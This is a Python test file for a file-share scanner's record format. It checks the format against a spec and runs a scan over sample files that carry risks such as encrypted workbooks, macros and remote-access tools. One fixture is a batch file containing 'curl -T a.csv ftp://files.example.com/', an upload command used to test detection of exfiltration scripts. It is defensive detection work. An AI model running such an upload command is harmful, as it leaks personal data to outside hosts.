"""scanners/record.py against the spec (../shared/spec/scan-record.md) and against real scans.

The spec is parsed as a person reads it: the example record's keys, the status
comment, the Kinds line, the Categories and Risk codes tables.  Where the spec
lets the record grow ("Extra keys are allowed", "New codes may be added") the
code may list more, after the spec's own, never fewer or in another meaning.
"""
from __future__ import annotations

import re
import shutil
from pathlib import Path

import openpyxl
import pytest

from scanners import record
from scanners.detectors.columns import CONFIRMED_BY_VALUES
from scanners.record import RecordError, check_record, risk
from scanners.scan import scan_roots
from scanners.shadow.catalogue import TOOL_RISKS
from scanners.walk import KIND_BY_EXTENSION, Candidate

SPEC = Path(__file__).resolve().parents[3] / "shared" / "spec" / "scan-record.md"


@pytest.fixture(scope="module")
def spec() -> str:
    if not SPEC.is_file():
        pytest.fail(f"spec not found at {SPEC}: clone shared/ beside the repository")
    return SPEC.read_text(encoding="utf-8")


def section(text: str, title: str) -> str:
    """The body of the ``## title`` section."""
    return text.split(f"## {title}", 1)[1].split("\n## ", 1)[0]


def example_block(text: str) -> list[str]:
    return text.split("```json", 1)[1].split("```", 1)[0].splitlines()


def block_keys(lines: list[str], indent: int) -> list[str]:
    """Keys written at ``indent`` spaces in the example record (several on a line counted)."""
    out = []
    for line in lines:
        if len(line) - len(line.lstrip(" ")) == indent and line.lstrip().startswith('"'):
            out += re.findall(r'"(\w+)":', line.split("//")[0])
    return out


def nested_keys(lines: list[str], name: str) -> list[str]:
    """Keys of the example's ``name`` object (its lines up to the closing brace)."""
    start = next(i for i, line in enumerate(lines) if line.startswith(f'  "{name}": {{'))
    end = next(i for i in range(start, len(lines)) if lines[i].startswith("  }"))
    return block_keys(lines[start + 1:end], 4)


def table_rows(text: str) -> list[list[str]]:
    """The body rows of the first markdown table in ``text``, cells stripped."""
    rows = [line.strip().strip("|").split("|") for line in text.splitlines() if line.startswith("|")]
    return [[cell.strip() for cell in row] for row in rows[2:]]


def test_top_level_keys_and_head_keys(spec):
    keys = block_keys(example_block(spec), 2)
    assert list(record.base_record(candidate())) == keys
    assert record.HEAD_KEYS == tuple(keys[:5])
    assert set(record.REQUIRED_KEYS) <= set(keys)


def test_personal_and_app_blocks(spec):
    lines = example_block(spec)
    assert list(record.empty_personal()) == nested_keys(lines, "personal")
    assert list(record.empty_app()) == nested_keys(lines, "app")


def test_statuses(spec):
    comment = next(line for line in example_block(spec) if line.startswith('  "status"')).split("//")[1]
    assert record.STATUSES == {s.strip() for s in comment.split("|")}


def test_kinds(spec):
    line = next(line for line in section(spec, "Kinds").splitlines() if line.startswith("`"))
    assert record.KINDS == tuple(line.strip("`.").split())


def test_kinds_cover_what_the_walk_assigns():
    assigned = set(KIND_BY_EXTENSION.values()) | {"executable", "script", "shortcut", "other"}
    assert assigned == set(record.KINDS)


def test_categories_and_sensitivity(spec):
    rows = table_rows(section(spec, "Categories"))
    assert record.CATEGORIES == tuple(row[0] for row in rows)
    assert record.SENSITIVE_CATEGORIES == {row[0] for row in rows if row[2] == "yes"}
    assert [row[0] for row in rows if row[2] == "特定個人情報"] == [record.MY_NUMBER_CATEGORY]
    assert CONFIRMED_BY_VALUES <= set(record.CATEGORIES)


def test_risk_codes_keep_the_specs_and_may_add(spec):
    body = section(spec, "Risk codes")
    assert "New codes may be added" in body
    codes = tuple(row[0] for row in table_rows(body))
    assert record.RISK_CODES[:len(codes)] == codes
    assert len(set(record.RISK_CODES)) == len(record.RISK_CODES)
    assert TOOL_RISKS <= set(record.RISK_CODES)


def test_risk_builds_the_dict_the_scanner_writes():
    assert risk("encrypted", "password-protected") == {"code": "encrypted", "detail": "password-protected"}
    assert list(risk("external-link", "x")) == ["code", "detail"]
    with pytest.raises(ValueError, match="unknown risk code"):
        risk("hidden-data", "sheet 1")


def test_failed_record():
    rec = record.failed_record(candidate(name_encoding="cp932"), "timed out after 60 s")
    assert (rec["status"], rec["error"], rec["sha256"]) == ("error", "timed out after 60 s", None)
    assert rec["notes"] == [record.NAME_NOTES["cp932"]]
    check_record(rec, strict=True)


GOOD = {"root": "/r", "path": "a.xlsx", "kind": "xlsx", "size": 1, "mtime": "2026-04-01T09:12:00+09:00",
        "status": "ok", "personal": {"categories": ["name"], "columns": [{"category": "name"}]},
        "risks": [{"code": "external-link", "detail": "x"}]}


@pytest.mark.parametrize("change, reason", [
    ({"kind": "docx"}, "unknown kind"),
    ({"personal": {"categories": ["pets"]}}, "unknown category"),
    ({"personal": {"columns": [{"category": "pets"}]}}, "unknown category"),
    ({"risks": [{"code": "new-risk", "detail": "x"}]}, "unknown risk code"),
    ({"risks": ["external-link"]}, "risk is not a code and a detail"),
])
def test_strict_check_refuses_what_the_scanner_never_writes(change, reason):
    rec = {**GOOD, **change}
    check_record(rec)                                 # the registry takes what the spec lets grow ...
    with pytest.raises(RecordError, match=reason):    # ... the scanner's own tests do not
        check_record(rec, strict=True)
    check_record(GOOD, strict=True)


def test_strict_check_wants_the_head_keys_first():
    rec = {"status": "ok", **{k: v for k, v in GOOD.items() if k != "status"}}
    check_record(rec)
    with pytest.raises(RecordError, match="head keys"):
        check_record(rec, strict=True)


# ----- every record of a real scan passes the strict check -----
CORPUS_FILES = [
    "apache+poi/test-data/spreadsheet/xor-encryption-abc.xls",                  # encrypted
    "dimastbk+python-calamine/tests/data/empty_file.ods",                       # error
    "decalage2+oletools/tests/test-data/excel4-macros/excel4_sample_macro.xlsm",  # autoexec-macro
    "apache+poi/test-data/spreadsheet/61495-test.xlsm",                         # credentials-in-file
    "apache+poi/test-data/spreadsheet/55923.xlsx",                              # external-data-connection
    "apache+poi/test-data/spreadsheet/link-external-workbook-b.xlsx",           # external-link
    "hex309+GitTest/bin/GoogleMapTest.xlsm",                                    # macro-network-access
    "jahlborn+jackcess/src/test/data/V1997/delTestV1997.mdb",
]
GIVEN = ["太郎", "花子", "一郎", "美咲", "健太", "陽子", "翔太", "由美", "大輔", "明美", "直樹", "恵子"]
ROWS = [[f"見本 {g}", f"1980/4/{n + 1}", f"090-1234-{5600 + n:04d}"] for n, g in enumerate(GIVEN)]
ROSTER = "氏名,生年月日,電話番号\n" + "".join(",".join(row) + "\n" for row in ROWS)
SHADOW_FILES = {
    "市民課/名簿.csv": ROSTER.encode("cp932"),
    "市民課/バックアップ/名簿のコピー.csv": ROSTER.encode("cp932"),     # duplicate-personal-data
    "個人/Dropbox/.dropbox": b"{}",
    "個人/Dropbox/持ち帰り/説明.docx": b"PK\x03\x04",                    # skipped, cloud-sync-folder
    "ツール/TeamViewer_Setup.exe": b"MZ" + b"\0" * 200,                  # remote-access-tool
    "ツール/送信.bat": b"curl -T a.csv ftp://files.example.com/\r\n",     # external-upload-script
    "ツール/共有.url": b"[InternetShortcut]\r\nURL=https://www.dropbox.com/s/abc/a.xlsx\r\n",
    "ツール/movie.torrent": b"d8:announce0:e",                           # p2p-file-sharing
}


@pytest.fixture(scope="module")
def scanned(corpus, tmp_path_factory) -> list[dict]:
    root = tmp_path_factory.mktemp("share")
    for rel in CORPUS_FILES:
        shutil.copyfile(corpus / rel, root / Path(rel).name)
    for rel, data in SHADOW_FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    hidden_roster(root / "名簿_非表示.xlsx")
    return list(scan_roots([str(root)], workers=2))


def hidden_roster(path: Path) -> None:
    """A workbook whose personal data sits in a veryHidden sheet (hidden-personal-data)."""
    book = openpyxl.Workbook()
    book.active.append(["集計"])
    sheet = book.create_sheet("元データ")
    sheet.sheet_state = "veryHidden"
    for row in [["氏名", "生年月日", "電話番号"], *ROWS]:
        sheet.append(row)
    book.save(path)


def test_every_record_of_a_real_scan_passes_the_contract(scanned):
    expected = {Path(rel).name for rel in CORPUS_FILES} | set(SHADOW_FILES) | {"名簿_非表示.xlsx"}
    assert {rec["path"] for rec in scanned} == expected
    for rec in scanned:
        check_record(rec, strict=True)


def test_the_scan_writes_every_status_and_risk_code(scanned):
    assert {rec["status"] for rec in scanned} == record.STATUSES
    assert {r["code"] for rec in scanned for r in rec["risks"]} == set(record.RISK_CODES)


def candidate(name_encoding: str | None = None) -> Candidate:
    return Candidate(root="/mnt/share", path="課/名簿.xlsx", abspath="/mnt/share/課/名簿.xlsx", kind="xlsx",
                     size=10, mtime=1_775_000_000.0, inode=1, name_encoding=name_encoding)
